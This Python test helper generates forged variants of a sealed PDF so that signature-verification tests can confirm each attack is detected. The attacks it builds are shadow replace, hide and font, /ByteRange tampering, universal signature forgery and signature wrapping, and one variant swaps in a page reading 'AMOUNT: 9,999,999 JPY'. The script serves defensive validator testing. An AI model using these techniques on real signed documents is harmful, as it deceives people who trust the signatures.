#!/usr/bin/env python3
# tests/verify/pdf_attack.py: builds the known attacks on PDF signature validators from a genuinely sealed PDF,
# so the verify tests can check that each one is reported (never passes). Uses qpdf only to read object text.
#
# usage: pdf_attack.py MODE IN.pdf OUT.pdf
#   flip            flip one byte inside the first signed range (inside a stream body)
#   shadow-replace  incremental update that replaces page 1's content stream (incremental saving / shadow replace)
#   shadow-hide     incremental update adding a FreeText annotation over page 1 (shadow hide)
#   form-value      incremental update changing a catalog entry (/OpenAction) after sealing
#   shadow-font     incremental update overriding an object the signed page only references (its font), the
#                   "replace" shadow attack through a resource rather than the content stream
#   byterange       rewrite /ByteRange in place so it no longer encloses /Contents (same length, offsets kept)
#   byterange-usf   rewrite /ByteRange in place to [0 0 0 0] (universal signature forgery)
#   contents-moved  incremental update redefining the signature dictionary with its /Contents value outside
#                   the ByteRange gap (signature wrapping)
#   no-contents     incremental update redefining the signature dictionary without /Contents (USF)
import re
import subprocess
import sys


def qpdf_obj(path, spec):
    return subprocess.run(["qpdf", "--show-object=" + spec, path], check=True, capture_output=True).stdout.decode(
        "latin-1").strip()


def last_startxref(data):
    m = list(re.finditer(rb"startxref\s+(\d+)", data))
    return int(m[-1].group(1))


def sig_object_id(path):
    # the first signature dictionary: the object holding a /ByteRange
    data = open(path, "rb").read()
    m = re.search(rb"(\d+) 0 obj\s*<<(?:(?!endobj).)*?/ByteRange", data, re.S)
    return int(m.group(1))


def page1(path):
    out = subprocess.run(["qpdf", "--show-pages", path], check=True, capture_output=True).stdout.decode()
    page = int(re.search(r"page 1: (\d+) 0 R", out).group(1))
    content = int(re.search(r"content:\s+(\d+) 0 R", out).group(1))
    return page, content


def append_update(data, path, objects, extra_trailer=b""):
    """objects: {id: bytes body (without 'N 0 obj'/'endobj')}; writes a classic xref section with /Prev."""
    trailer = qpdf_obj(path, "trailer")
    size = int(re.search(r"/Size (\d+)", trailer).group(1))
    root = re.search(r"/Root (\d+ \d+ R)", trailer).group(1)
    new_size = max([size] + [i + 1 for i in objects])
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for oid in sorted(objects):
        offsets[oid] = len(out)
        out += b"%d 0 obj\n" % oid + objects[oid] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for oid in sorted(objects):
        out += b"%d 1\n%010d 00000 n \n" % (oid, offsets[oid])
    out += b"trailer\n<< /Size %d /Root %s /Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        new_size, root.encode(), last_startxref(data), extra_trailer, xref)
    return bytes(out)


BYTERANGE_BLANK = b"/ByteRange [0 0000000000 0000000000 0000000000]"


def placeholder(size):
    """A signature dictionary's /ByteRange and /Contents, for size bytes of CMS, before the offsets are known."""
    return BYTERANGE_BLANK + b" /Contents <" + b"0" * (2 * size) + b">"


def fix_byte_range(out, sig_id, size):
    """Writes the real /ByteRange of signature object sig_id into out (a bytearray made with placeholder(size));
    returns (a, b): the offsets of the /Contents '<' and just past its '>', i.e. the gap the CMS goes in."""
    start = out.index(b"%d 0 obj\n" % sig_id)
    a = out.index(b"/Contents <", start) + len(b"/Contents ")
    b = a + 2 * size + 2
    pos = out.index(BYTERANGE_BLANK, start)
    out[pos:pos + len(BYTERANGE_BLANK)] = b"/ByteRange [0 %010d %010d %010d]" % (a, b, len(out) - b)
    return a, b


def byte_range(data):
    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)
    return m, [int(x) for x in m.groups()]


def main():
    mode, src, dst = sys.argv[1:4]
    data = open(src, "rb").read()
    m, br = byte_range(data)
    if mode == "flip":
        pos = data.index(b"stream", 0, br[1]) + 20
        assert pos < br[1]
        data = data[:pos] + bytes([data[pos] ^ 0x01]) + data[pos + 1:]
    elif mode in ("byterange", "byterange-usf"):
        old = m.group(0)
        if mode == "byterange":
            new = b"/ByteRange [0 %d %d %d]" % (br[1] + 2, br[2] + 2, br[3] - 2)
        else:
            new = b"/ByteRange [0 0 0 0]"
        assert len(new) <= len(old)
        new = new[:-1] + b" " * (len(old) - len(new)) + b"]"
        data = data[:m.start()] + new + data[m.end():]
    elif mode == "shadow-replace":
        _, content = page1(src)
        text = b"BT /F1 24 Tf 40 60 Td (AMOUNT: 9,999,999 JPY) Tj ET"
        data = append_update(data, src, {content: b"<< /Length %d >>\nstream\n" % len(text) + text +
                                         b"\nendstream"})
    elif mode == "shadow-hide":
        page, _ = page1(src)
        pdict = qpdf_obj(src, str(page)).encode("latin-1")
        trailer = qpdf_obj(src, "trailer")
        annot_id = int(re.search(r"/Size (\d+)", trailer).group(1))
        annot = (b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 600 200] /Contents (covered) /DA (/Helv 12 Tf 0 g) "
                 b"/F 4 /P %d 0 R >>" % page)
        am = re.search(rb"/Annots \[([^\]]*)\]", pdict)
        if am:
            pdict = pdict[:am.start()] + b"/Annots [" + am.group(1) + b" %d 0 R]" % annot_id + pdict[am.end():]
        else:
            pdict = pdict[:-2] + b" /Annots [%d 0 R] >>" % annot_id
        data = append_update(data, src, {page: pdict, annot_id: annot})
    elif mode == "shadow-font":
        page, _ = page1(src)
        res = re.search(r"/Resources (\d+) 0 R", qpdf_obj(src, str(page)))
        res_text = qpdf_obj(src, res.group(1)) if res else qpdf_obj(src, str(page))
        font = int(re.search(r"/Font << /[^ ]+ (\d+) 0 R", res_text).group(1))
        fdict = qpdf_obj(src, str(font)).encode("latin-1")
        fdict = re.sub(rb"/BaseFont /[^ /]+", b"/BaseFont /Courier", fdict, count=1)
        data = append_update(data, src, {font: fdict})
    elif mode == "form-value":
        trailer = qpdf_obj(src, "trailer")
        root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
        cat = qpdf_obj(src, str(root)).encode("latin-1")
        cat = cat[:-2] + b" /OpenAction << /S /JavaScript /JS (app.alert\\('changed'\\)) >> >>"
        data = append_update(data, src, {root: cat})
    elif mode in ("contents-moved", "no-contents"):
        sid = sig_object_id(src)
        sdict = qpdf_obj(src, str(sid)).encode("latin-1")
        cm = re.search(rb"/Contents <([0-9a-fA-F]*)>", sdict)
        if mode == "contents-moved":
            # Same ByteRange; the value a reader takes is a different (zeroed) string placed after the gap.
            fake = b"0" * len(cm.group(1))
            sdict = sdict[:cm.start()] + b"/Contents <" + fake + b">" + sdict[cm.end():]
        else:
            sdict = sdict[:cm.start()] + sdict[cm.end():]
        data = append_update(data, src, {sid: sdict})
    else:
        sys.exit("unknown mode " + mode)
    open(dst, "wb").write(data)


if __name__ == "__main__":
    main()
